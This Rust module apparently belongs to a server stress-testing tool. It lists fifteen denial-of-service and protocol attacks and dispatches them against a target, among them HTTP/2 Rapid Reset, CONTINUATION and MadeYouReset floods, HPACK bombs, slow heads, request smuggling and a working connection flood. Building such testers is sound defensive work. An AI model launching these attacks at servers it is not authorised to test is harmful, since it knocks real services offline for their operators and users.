//! The ways to be hostile.

use std::{io, time::Duration};

use tokio::{net::TcpStream, time::sleep};

use super::{
    bytes,
    target::{Outcome, Reading, Target},
};

/// The ways to be hostile.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Attack {
    /// HTTP/2: a head in ever more frames (CVE-2024-27316).
    Continuation,
    /// Bytes that are not TLS.
    Garbage,
    /// A handshake of which the second half never comes.
    HalfHandshake,
    /// HTTP/2: a short head that is long once it is decompressed.
    HpackBomb,
    /// HTTP/2: mistakes that make the server reset streams (CVE-2025-8671).
    MadeYouReset,
    /// A head that is too long.
    OversizedHead,
    /// HTTP/2: pings, each to be answered.
    PingFlood,
    /// Requests, and nobody reads the answers.
    Pipelining,
    /// HTTP on the port of HTTPS.
    PlainHttp,
    /// HTTP/2: requests that are cancelled at once (CVE-2023-44487).
    RapidReset,
    /// A connection that is closed at once.
    Scan,
    /// HTTP/2: settings, each to be acknowledged.
    SettingsFlood,
    /// A head of which a byte comes now and then.
    SlowHead,
    /// Answers that are read a byte at a time.
    SlowReader,
    /// A request that two servers understand differently.
    Smuggling,
}

impl Attack {
    pub(crate) const ALL: [Self; 15] = [
        Self::Continuation,
        Self::Garbage,
        Self::HalfHandshake,
        Self::HpackBomb,
        Self::MadeYouReset,
        Self::OversizedHead,
        Self::PingFlood,
        Self::Pipelining,
        Self::PlainHttp,
        Self::RapidReset,
        Self::Scan,
        Self::SettingsFlood,
        Self::SlowHead,
        Self::SlowReader,
        Self::Smuggling,
    ];

    /// Does it once. An error means that no TCP connection was to be had.
    pub(crate) async fn once(self, target: &Target) -> io::Result<Outcome> {
        match self {
            Self::Continuation => target.http2(bytes::endless_head).await,
            Self::Garbage => target.plain(bytes::garbage()).await,
            Self::HalfHandshake => target.plain(target.half_hello()?).await,
            Self::HpackBomb => target.http2(bytes::bomb).await,
            Self::MadeYouReset => target.http2(bytes::made_you_reset).await,
            Self::OversizedHead => target.http1(bytes::oversized_head()).await,
            Self::PingFlood => target.http2(bytes::ping).await,
            Self::Pipelining => target.answered(Reading::Never).await,
            Self::PlainHttp => target.plain(bytes::REQUEST.into()).await,
            Self::RapidReset => target.http2(bytes::rapid_reset).await,
            Self::Scan => {
                drop(target.connect(Reading::AtOnce).await?);
                Ok(Outcome {
                    is_ended: true,
                    ..Outcome::default()
                })
            }
            Self::SettingsFlood => target.http2(bytes::settings).await,
            Self::SlowHead => target.slow_head().await,
            Self::SlowReader => target.answered(Reading::Slowly).await,
            Self::Smuggling => {
                let fields = fastrand::choice(bytes::AMBIGUOUS).unwrap_or_default();
                target.http1(bytes::smuggling(fields)).await
            }
        }
    }
}

/// Opens many connections at once; gives back how many of them the server lets be.
pub(crate) async fn flood(target: &Target, count: usize) -> io::Result<usize> {
    let mut open = Vec::with_capacity(count);
    for _ in 0..count {
        open.push(target.connect(Reading::AtOnce).await?);
    }
    sleep(A_MOMENT).await;
    let is_let_be = |stream: &&TcpStream| {
        let read = stream.try_read(&mut [0]);
        read.is_err_and(|error| error.kind() == io::ErrorKind::WouldBlock)
    };
    Ok(open.iter().filter(is_let_be).count())
}

/// In which a server closes what it does not want.
const A_MOMENT: Duration = Duration::from_secs(1);
